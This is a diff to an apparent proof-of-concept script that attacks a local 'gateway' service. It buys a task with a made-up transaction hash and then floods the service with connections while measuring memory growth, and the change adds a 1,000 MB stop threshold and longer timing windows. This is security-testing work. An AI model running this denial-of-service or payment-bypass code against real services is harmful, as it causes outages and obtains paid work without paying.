@@ -4,6 +4,7 @@ import contextlib
 import http.client
 import json
 import socket
+import sys
 import tempfile
 import time
 from collections.abc import Iterator
@@ -22,7 +23,9 @@ _TEXT_BYTES = 7_000_000
 _CONNECTIONS = 1_000
 _HEADS = 50
 # The memory is read until it has not grown for so long.
-_QUIET_S, _MOST_S = 3.0, 40.0
+_QUIET_S, _MOST_S = 8.0, 50.0
+# Beyond this the attack has succeeded, and the machine is spared the rest.
+_STOP_MB = 1_000
 _PLUGIN = f"""
 from gateway import Endpoint, Result, Traits, hookimpl, usdc
 
@@ -89,8 +92,9 @@ def _target(tree: Tree, chosen: dict[str, str]) -> Iterator[Target]:
 
 def _buy(port: int) -> tuple[str, str]:
     """Return the paths of a bought task and of its file."""
-    body = {"slug": "long", "prompt": "A long one", "txHash": "0x" + "ab" * 32}
-    path = _ask(port, "POST", "/api/proxy-generate", body)["statusUrl"]
+    body = {"slug": "long", "prompt": "A long one", "txHash": f"0x{1:064x}"}
+    sold = _ask(port, "POST", "/api/proxy-generate", body)
+    path = sold.get("statusUrl") or sys.exit(f"nothing was sold: {sold}")
     while not (task := _ask(port, "GET", f"{path}?wait=10"))["done"]:
         pass
     url = urlsplit(task["result"]["outputs"][0]["url"])
@@ -122,10 +126,14 @@ def _read_nothing(target: Target, kind: str, addresses: int) -> str:
             with contextlib.suppress(OSError):
                 client.sendall(sent.encode())
             most = max(most, rss_mb(target.pid))
+            if most > _STOP_MB:
+                return f"RSS {before:.0f} → {most:.0f} MB by {number + 1} connections; stopped"
         grown_at = time.monotonic()
         while time.monotonic() - grown_at < _QUIET_S and time.monotonic() - began < _MOST_S:
             time.sleep(0.1)
             now = rss_mb(target.pid)
+            if now > _STOP_MB:
+                return f"RSS {before:.0f} → {now:.0f} MB; stopped"
             if now > most + 1:
                 most, grown_at = now, time.monotonic()
         read = _honest(target.port, path)
